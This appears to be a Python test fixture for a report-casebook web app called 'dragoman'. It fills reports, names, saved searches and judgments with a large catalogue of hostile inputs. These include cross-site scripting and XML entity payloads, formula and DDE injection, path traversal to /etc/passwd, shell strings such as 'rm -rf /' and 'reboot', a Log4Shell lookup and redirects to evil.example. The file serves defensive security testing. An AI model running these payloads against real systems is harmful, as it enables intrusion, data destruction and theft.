"""Texts that somebody may put into a report or a query to do harm, and a desk full of them.

A case is one text. It stands as title, publisher, address and part of the text of a report, in that report's id, as the name
of its actors, places, forums and offices, as the id and words of merged things, as the name of a saved search and in
judgments; and it is asked for in every query.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

from starlette.testclient import TestClient

from dragoman.app.pages.book import Book, Shown, Whole
from dragoman.casebook import Casebook, Judgment, open_casebook
from dragoman.casebook.queries import Saved
from dragoman.desk import DeskSettings, make_desk
from dragoman.desk.state import Desk
from dragoman.exports.view import View
from dragoman.knowledge import Knowledge
from dragoman.record import Reading, Report
from dragoman.record.merged import Claim, Contradiction, Copies, Forum, Happening, Merged, NextSession, Session, Story, Support, Words
from tests.casebook.full import REPORT, at, full
from tests.casebook.made import ORIGIN
from tests.desk.made import BASE

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script that ends another": "</script><script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT >",
    "script with a null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script without an end": "<script>alert(1)",
    "script in full width": "＜script＞alert(1)＜/script＞",
    "script in quotes": "\"'><script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image with a slash for a blank": "<img/src=x/onerror=alert(1)>",
    "attribute that breaks out": '" onmouseover="alert(1)" x="',
    "attribute that breaks out by an apostrophe": "' onfocus='alert(1)' autofocus x='",
    "attribute that breaks out by a backtick": "` onclick=`alert(1)`",
    "svg with a handler": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "svg that animates a link": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg with foreign content": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "mathml": '<math><mtext></p><style><img title="</style><img src onerror=alert(1)>">',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=data:text/html,<script>alert(1)</script>></object>",
    "form that sends elsewhere": "<form action=https://evil.example><button>Log in</button></form>",
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "end of the page": "</p></div></main></body></html><h1>gone</h1>",
    "end of the title": "</title></head><body onload=alert(1)>",
    "end of a text field": "</textarea></select></option><script>alert(1)</script>",
    "comment": "<!-- --!> <img src=x onerror=alert(1)> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "details": "<details open ontoggle=alert(1)>",
}
XML = {
    "end of cdata": "]]><entry><id>x</id></entry><![CDATA[",
    "entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "many entities": "&lol9;&amp;&#x3C;script&#x3E;alert(1)&#60;/script&#62;",
    "entity in an attribute": "&quot; onclick=&quot;alert(1)",
    "processing instruction": '<?xml-stylesheet href="https://evil.example/x.xsl"?><?php echo 1 ?>',
    "namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
}
LINKS = {
    "javascript": "javascript:alert(1)",
    "javascript in capitals with a tab": "JaVa\tScRiPt:alert(1)",
    "javascript behind a control": "\x01javascript:alert(1)",
    "javascript behind a line end": "\njavascript:alert(1)//https://",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "no scheme": "//evil.example/x",
    "backslashes": "\\\\evil.example\\share",
    "http that breaks out": 'https://karsh.example/"onclick="alert(1)',
    "http with a script": "https://karsh.example/<script>alert(1)</script>",
    "user and password": "https://bank.example@evil.example/",
}
STYLES = {
    "style": "<style>*{display:none}</style>",
    "style that loads": "<link rel=stylesheet href=//evil.example/x.css>",
    "style in an attribute": '" style="position:fixed;inset:0;background:url(//evil.example)',
    "style expression": "</style>}*{x:expression(alert(1))}@import url(//evil.example);",
}
TABLES = {
    "formula": '=HYPERLINK("https://evil.example","click")',
    "formula that runs a program": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line end": "\r\n=1+1",
    "formula behind a blank": " =1+1",
    "formula behind a zero-width space": "\u200b=1+1",
    "formula in full width": "＝1+1",
    "cells and rows": 'a","b\n"=1+1";c\td\r\n',
    "quotes alone": '""""\'\'\'',
    "dde": 'DDE ("cmd";"/C calc";"x")',
}
PATHS = {
    "path upwards": "../../../../etc/passwd",
    "path upwards with backslashes": "..\\..\\..\\windows\\win.ini",
    "path upwards in percent": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "path upwards in percent twice": "%252e%252e%252fetc%252fpasswd",
    "root": "/etc/passwd",
    "dots alone": "..",
    "device": "CON.json",
    "drive": "C:\\boot.ini:stream",
    "ending of a form": "x.json.atom",
    "option": "--help; rm -rf / #",
    "shell": "$(touch x) `touch y` | tee z && reboot",
    "very long": "a" * 5_000,
    "very long without a break in many letters": "ж" * 3_000,
}
LETTERS = {
    "null bytes": "\x00\x00before\x00after",
    "controls and escape sequences": "\x1b[31mred\x1b[0m\x07\x08\x7f\x9b31m",
    "lone high surrogate": "\ud800 half",
    "lone low surrogate": "half \udfff",
    "surrogates in the wrong order": "\udc00\ud800",
    "no characters": "\ufffe\uffff\ufdd0\U0001ffff",
    "override to the left": "invoice\u202egpj.exe",
    "isolates that are never ended": "\u2066\u2067\u2068 abc",
    "marks of direction": "\u200e\u200f\u061c left",
    "arabic and hebrew": "وزير الخارجية שר החוץ",
    "zero-width": "Ar\u200bd\u200ce\u200dn\ufeff",
    "zero-width alone": "\u200b\u200b",
    "blank alone": "   ",
    "emoji with joiners": "👩‍👩‍👧‍👦🏳️‍🌈🇰🇬",
    "many combining marks": "Z" + "\u0336\u0488\u0310" * 60,
    "combining mark first": "\u0338> overlay",
    "line and paragraph separators": "one\u2028two\u2029three\x85four",
    "line ends of old systems": "one\rtwo\x0bthree\x0cfour",
    "tags of another plane": "\U000e0041\U000e0042 tag",
    "look-alikes": "Аrdеn Веllаnd",
    "ligature that folds": "ﬁ ﷺ ﬆ",
    "letters that grow in capitals": "ßŉǰΐİ",
}
WORDS = {
    "braces of a template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "braces of a format": "{0.__class__.__init__.__globals__} %s %(x)s %n",
    "dollar braces": "${7*7} #{7*7} ${jndi:ldap://evil.example/x}",
    "comment of a template": "{# #} {%- raw -%}{{",
    "header": "x\r\nSet-Cookie: session=evil\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>",
    "header of a file": 'x"; filename="evil.exe',
    "query of a database": "'; DROP TABLE reports; --",
    "search of a database": 'karsh* OR NEAR("a" "b") title:^x',
    "pattern that never ends": "(a+)+$" + "a" * 60 + "!",
    "json": '"},{"id":"x","__proto__":{"admin":true}}',
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
    "markdown": "[click](javascript:alert(1)) ![x](//evil.example)",
    "key of an item": "event/r1/0-5#2@7/-/x",
    "token of a form": '<input name=token value="0">',
}
CASES: dict[str, str] = SCRIPTS | XML | LINKS | STYLES | TABLES | PATHS | LETTERS | WORDS
PLAIN: dict[str, str] = {"word": "lantern", "words": "the lamp of Karsh", "address": "https://karsh.example/1", "none": "other"}

_LONGEST_ID = 300  # what stands in addresses of pages; a server takes no more than some thousand bytes of one


def id_of(number: int, text: str) -> str:
    """The id of a case's report and of what is merged of it."""
    return f"{text[:_LONGEST_ID]}/{number}"


def reading_of(number: int, text: str) -> Reading:
    """The report of a case and what was read in it."""
    told = full()
    report = Report(id_of(number, text), f"{REPORT.text} {text}", text, "2031-05-01", text, text)
    role = told.actors[2].roles[0]
    actors = tuple(
        replace(actor, name=f"{text}{actor.id}" if actor.id != "A2" else text, country="BEL" if actor.id == "A2" else actor.country)
        for actor in told.actors
    )
    actors = tuple(replace(actor, roles=(replace(role, title=text),)) if actor.roles else actor for actor in actors)
    forums = tuple(replace(row, name=text, acronym=text) for row in told.mechanisms)
    places = tuple(replace(row, name=text) for row in told.places)
    times = tuple(replace(row, anchor=text) for row in told.times)
    events = tuple(replace(event, cameo="040") for event in told.events)
    return replace(told, report=report, actors=actors, mechanisms=forums, places=places, times=times, events=events)


def merged_of(cases: Sequence[str]) -> Merged:
    """Stories, happenings, claims and forums of the cases, each resting on its report and the one before."""
    happenings, claims, forums, stories = [], [], [], []
    for number, text in enumerate(cases):
        id, ids = id_of(number, text), (id_of(number, text), id_of(number - 1, cases[number - 1]))
        met, shelled = (tuple(Support(one, event, at(words)) for one in ids) for event, words in (("E1", "met"), ("E3", "shelling")))
        differ = Contradiction("place", tuple(Words(one, at("Karsh")) for one in ids))
        sides = ((text,), ("country:belland:BEL",))
        happenings.append(Happening(f"{id}m", "CONSULT", "visit", "2031-04-28", text, "ARD", "happened", *sides, met, 2, (differ,)))
        happenings.append(Happening(f"{id}s", "ASSAULT", None, "2031-05", None, None, "denied", *sides, shelled, 1))
        said = tuple(Words(one, at("accused")) for one in ids)
        claims.append(Claim(id, (text,), said, (Words(ids[0], at("said")),), shelled))
        sat = (Session(1, "2030-10", text, "ARD", ids, (text,)), Session(3, "2031-04-28", "Venlo", "BEL", ids, (text,)))
        forums.append(Forum(id, text, ("ARD", "BEL"), sat, NextSession("2031-04", "2031-11", text)))
        stories.append(Story(id, ids))
    copies = tuple(Copies((story.reports[0], story.reports[1])) for story in stories[1::9])
    return Merged(tuple(stories), copies, tuple(happenings), tuple(claims), tuple(forums))


class _Fixed:
    """Stands in for the keeper of the book: always the same merged things."""

    def __init__(self, merged: Merged, shown: dict[str, Shown]) -> None:
        self._shown, self._book = shown, Book(Whole.of(merged), Knowledge.load(), self.load)

    def book(self) -> Book:
        return self._book

    def load(self, ids: Sequence[str]) -> dict[str, Shown]:
        return {id: self._shown[id] for id in ids if id in self._shown}


@contextmanager
def opened(path: Path, cases: Sequence[str]) -> Iterator[tuple[Casebook, TestClient]]:
    """A casebook of the cases, and a browser on its desk."""
    with open_casebook(path, create=True) as casebook:
        for number, text in enumerate(cases):
            reading = reading_of(number, text)
            casebook.keep(reading.report, text.encode("utf-8", "replace"), replace(ORIGIN, place=text), reading)
            casebook.queries.save(Saved(f"s{number}", text, "q=karsh", "", ORIGIN.fetched))
        for number, (text, entry) in enumerate(zip(cases, casebook.entries(), strict=True)):
            on, value = entry.keys["E2"], '{"status": "ongoing"}'
            casebook.judge(Judgment(f"j-{number}", text or "?", "2031-05-01T00:00:00+00:00", text, on, "correct", value))
        app = make_desk(casebook, DeskSettings(name=cases[0]))
        shown = {entry.reading.report.id: Shown(entry, View.of(entry.reading)) for entry in casebook.entries()}
        old: Desk = app.state.desk
        app.state.desk = replace(old, keeper=_Fixed(merged_of(cases), shown))  # type: ignore[arg-type]
        yield casebook, TestClient(app, base_url=BASE, raise_server_exceptions=False, follow_redirects=False)
